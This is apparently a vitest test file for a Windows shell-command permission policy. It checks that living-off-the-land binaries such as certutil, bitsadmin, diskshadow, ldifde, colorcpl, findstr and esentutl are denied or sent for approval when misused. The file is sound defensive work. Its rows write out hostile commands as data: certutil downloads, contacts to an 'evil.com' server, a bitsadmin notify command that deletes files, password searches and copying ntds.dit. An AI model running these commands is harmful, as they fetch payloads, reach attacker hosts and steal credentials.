// Windows built-in programs (LOLBAS, binaries A-L) that fetched, reached a server, stored a command
// line or read and wrote files unseen (review l1: F1, F2, F5, F6, F8, F9, F10): each deny or ask
// row was allowed under `Shell(*)` before its fix; the allow rows are their ordinary uses.
import { describe, it } from 'vitest';
import { expectDecision } from './helpers/policy.js';
import { WINDOWS_RULES, WIN, windowsTable as table } from './helpers/windows.js';
import type { DecisionKind } from '../src/policy/types.js';

/** One test per row: the Git Bash line decides as expected under WINDOWS_RULES in WIN. */
const bashTable = (rows: [string, DecisionKind][]): void => it.each(rows)('bash: %s: %s', (line, expected) => {
  expectDecision(WINDOWS_RULES, 'shell', line, expected, WIN);
});

describe('certutil and certreq: the file after a URL is written, POSIX paths from Git Bash, -config HOST\\CA', () => {
  table([
    ['certutil -urlcache -f https://good.com/x C:\\Windows\\x', 'deny'],
    ['certutil -verifyctl -f https://good.com/x C:\\Windows\\x', 'deny'],
    ['certutil -urlcache -split -f https://good.com/x C:\\Windows\\x', 'deny'],
    ['certutil.exe -urlcache -f https://good.com/x.ps1 C:\\Windows\\x:ttt', 'deny'],
    ['certutil -config evil.com\\CA -ping', 'deny'],
    ['certreq -submit -config evil.com\\CA req.txt', 'deny'],
    ['certreq -submit req.txt C:\\Windows\\x.cer', 'deny'],
    ['certutil -config good.com\\CA -ping', 'allow'],
    ['certreq -submit -config good.com\\CA req.txt out.cer', 'allow'],
    ['certutil -hashfile x.zip SHA256', 'allow'],
  ]);
  bashTable([
    ['certutil -encode /c/Secrets/x out', 'deny'],
    ['certutil -decode x /c/Windows/x', 'deny'],
    ["certutil -config 'evil.com\\CA' -ping", 'deny'],
    ['certutil -encode a.txt b.txt', 'allow'],
  ]);
});

describe('bitsadmin: the notify command line, proxies, file sets and local files', () => {
  table([
    ['bitsadmin /SetNotifyCmdLine 1 cmd.exe "/c rm x"', 'deny'],
    ['bitsadmin /setnotifycmdline 1 rm x', 'deny'],
    ['bitsadmin /SetNotifyCmdLine 1 C:\\w\\repo\\a.exe NULL', 'ask'],
    ['bitsadmin /setproxysettings 1 override evil.com:8080 NULL', 'deny'],
    ['bitsadmin /setproxysettings 1 override "http=good.com:80;https=evil.com:443" NULL', 'deny'],
    ['Set-Content l.txt x; bitsadmin /addfileset j l.txt', 'ask'],
    ['bitsadmin /addfile j https://good.com/x $env:windir\\x', 'ask'],
    ['bitsadmin /transfer j /download /priority high https://good.com/x $env:windir\\x', 'ask'],
    ['bitsadmin /setproxysettings 1 override good.com:8080 NULL', 'allow'],
    ['bitsadmin /info j /verbose', 'allow'],
  ]);
  bashTable([['bitsadmin /setnotifycmdline 1 rm x', 'deny']]);
});

describe('diskshadow reads its commands from standard input', () => {
  table([
    ["'exec C:\\Windows\\System32\\cmd.exe /c del x' | diskshadow", 'ask'],
    ['Get-Content C:\\w\\repo\\ds.txt | diskshadow.exe', 'ask'],
  ]);
  bashTable([["echo 'exec cmd.exe /c del x' | diskshadow", 'ask']]);
});

describe('the servers of csvde, ldifde and dnscmd; their files', () => {
  table([
    ['Csvde -s evil.com -f out.csv', 'deny'],
    ['ldifde -s evil.com -f out.ldf', 'deny'],
    ['Ldifde -i -f inputfile.ldf -s evil.com', 'deny'],
    ['ldifde -f C:\\Windows\\out.ldf', 'deny'],
    ['dnscmd evil.com /info', 'deny'],
    ['ldifde -f out.ldf -s good.com', 'allow'],
    ['dnscmd good.com /info', 'allow'],
    ['dnscmd /info', 'allow'],
  ]);
  bashTable([['Csvde -s evil.com -f out.csv', 'deny'], ['ldifde -s evil.com -f out.ldf', 'deny']]);
});

describe('files that name URLs or files to fetch: cmdl32, ldifde -i, diantz /f, findstr /F:', () => {
  table([
    ['Set-Content c.ini x; cmdl32 /vpn /lan C:\\w\\repo\\c.ini', 'ask'],
    ['Set-Content i.ldf x; Ldifde -i -f i.ldf', 'ask'],
    ['Set-Content d.ddf x; diantz /f d.ddf', 'ask'],
    ['findstr /F:list.txt x', 'ask'],
  ]);
});

describe('colorcpl copies its operand into the Windows directory', () => {
  table([
    ['colorcpl.exe C:\\w\\repo\\payload.dll', 'deny'],
    ['colorcpl.exe payload.exe', 'deny'],
    ['colorcpl.exe $env:TEMP\\x.icm', 'deny'],
  ]);
  bashTable([['colorcpl.exe payload.exe', 'deny']]);
});

describe('findstr, esentutl, extrac32, diantz and GfxDownloadWrapper read and write their operands', () => {
  table([
    ['findstr /S /I password C:\\Secrets\\*', 'ask'],
    ['findstr /S /I password C:\\*', 'ask'],
    ['findstr /S /I password \\*', 'ask'],
    ['findstr /S /I /D:C:\\ password *.txt', 'ask'],
    ['findstr /V /L W3 $env:SystemDrive\\Secrets\\x', 'ask'],
    ['findstr /G:C:\\Secrets\\p.txt a.txt', 'deny'],
    ['esentutl.exe /y $env:SystemDrive\\Secrets\\x /d C:\\w\\repo\\x /o', 'ask'],
    ['esentutl.exe /y C:\\w\\repo\\x /d $env:windir\\x /o', 'ask'],
    ['esentutl.exe /y /vss $env:windir\\ntds\\ntds.dit /d c:\\w\\repo\\ntds.dit', 'ask'],
    ['extrac32.exe /C $env:SystemDrive\\Secrets\\x C:\\w\\repo\\calc.exe', 'ask'],
    ['extrac32 /Y /E /L $env:windir x.cab', 'ask'],
    ['extrac32 x.cab C:\\Windows\\x.txt:ads', 'deny'],
    ['diantz.exe $env:SystemDrive\\Secrets\\x c:\\w\\repo\\file.cab', 'ask'],
    ['diantz.exe C:\\w\\repo\\x C:\\Windows\\x.cab', 'deny'],
    ['GfxDownloadWrapper.exe "https://good.com/x" "$env:windir\\x"', 'ask'],
    ['findstr foo a.txt', 'allow'],
    ['findstr /C:"foo bar" a.txt b.txt', 'allow'],
    ['findstr /S /I /D:C:\\w\\repo password a.txt', 'allow'],
    ['esentutl.exe /y C:\\w\\repo\\x /d C:\\w\\repo\\y /o', 'allow'],
    ['extrac32 /E x.cab', 'allow'],
    ['diantz C:\\w\\repo\\a.txt a.cab', 'allow'],
  ]);
  bashTable([
    ['findstr /S /I password /c/Secrets/*', 'ask'],
    ["findstr /S /I password '/c/*'", 'ask'],
    // (Unquoted, bash leaves `C:Secrets*`: the current directory of drive C:, not known.)
    ['findstr /S /I password C:\\Secrets\\*', 'ask'],
    ['esentutl.exe /y /c/Secrets/x /d x /o', 'deny'],
    ['esentutl.exe /y a /d /c/Windows/x /o', 'deny'],
    ['findstr foo a.txt', 'allow'],
  ]);
});
